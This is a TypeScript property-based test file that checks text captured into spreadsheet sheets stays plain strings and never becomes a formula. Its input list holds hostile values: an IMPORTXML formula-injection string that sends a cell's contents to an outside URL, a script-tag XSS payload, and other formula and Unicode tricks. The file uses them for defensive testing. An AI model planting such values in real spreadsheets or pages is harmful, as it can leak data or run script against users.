import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sampleRecord } from '../ledger/sample-record.ts';
import { Desk } from './desk.ts';

/** Half of a surrogate pair is no text that JSON carries. */
const LONE = /[\uD800-\uDFFF]/u;

/** What spreadsheets like to take for a formula, a number, a date or a truth, and what hides in a line. */
const nasty = fc.oneof(
  fc.constantFrom(
    '=IMPORTXML("https://example.com/"&A1,"//a")',
    '+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '＝1+1',
    '\uFEFF=1',
    "'=1",
    '00123',
    '1e5',
    '2026-11-21',
    '2026. 11. 21.',
    'TRUE',
    '<b>굵게</b><script>alert(1)</script>',
    '\u202E뒤집힘',
    '폭\u200B없음',
    '#REF!',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 80 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((text) => !LONE.test(text)),
);

describe('captured text', () => {
  it('stands in its cells as it came, and no formula of it', { timeout: 180_000 }, () => {
    const desk = new Desk();
    let day = 0;
    fc.assert(
      fc.property(nasty, nasty, nasty, (title, content, name) => {
        day += 1;
        const date = new Date(Date.UTC(2000, 0, 1 + day * 20)).toISOString().slice(0, 10);
        const base = sampleRecord();
        const record = sampleRecord({
          date,
          content,
          partner: { ...base.partner, name, placeId: null },
          article: { title, outlet: title },
        });
        expect(desk.capture(record)).toEqual(['stored']);
        const sheets = desk.host.book().sheets.filter(({ properties }) => !properties.hidden);
        const cells = (at: string) =>
          sheets
            .find(({ properties }) => properties.title === at)
            ?.rows[1]?.cells.map((cell) => cell?.userEnteredValue) ?? [];
        const read = (at: string, header: string) => cells(at)[desk.column(at, header)];
        expect(read('교류실적', '교류내용')).toEqual({ stringValue: content });
        expect(read('교류실적', '교류도시')).toEqual({ stringValue: name });
        expect(read('기사', '제목')).toEqual({ stringValue: title });
        const formulas = sheets
          .flatMap(({ rows }) => rows.flatMap((row) => row.cells))
          .flatMap((cell) => cell?.userEnteredValue?.formulaValue ?? []);
        expect(formulas.filter((formula) => !/^=(ROW\(\)-1$|IFERROR\(IF\(VLOOKUP\()/.test(formula))).toEqual(
          [],
        );
      }),
      { numRuns: 60, seed: 20261122 },
    );
  });

  it('is never taken for a person’s edit by 정리', { timeout: 180_000 }, () => {
    const desk = new Desk();
    const texts = fc.sample(nasty, { numRuns: 40, seed: 7 });
    desk.capture(
      ...texts.map((content, i) =>
        sampleRecord({ content, date: new Date(Date.UTC(2000, 0, 1 + i * 20)).toISOString().slice(0, 10) }),
      ),
    );
    expect(desk.run('tidy')).toEqual({ numbered: 0, edits: 0, filled: 0, deleted: 0, left: 0 });
  });
});
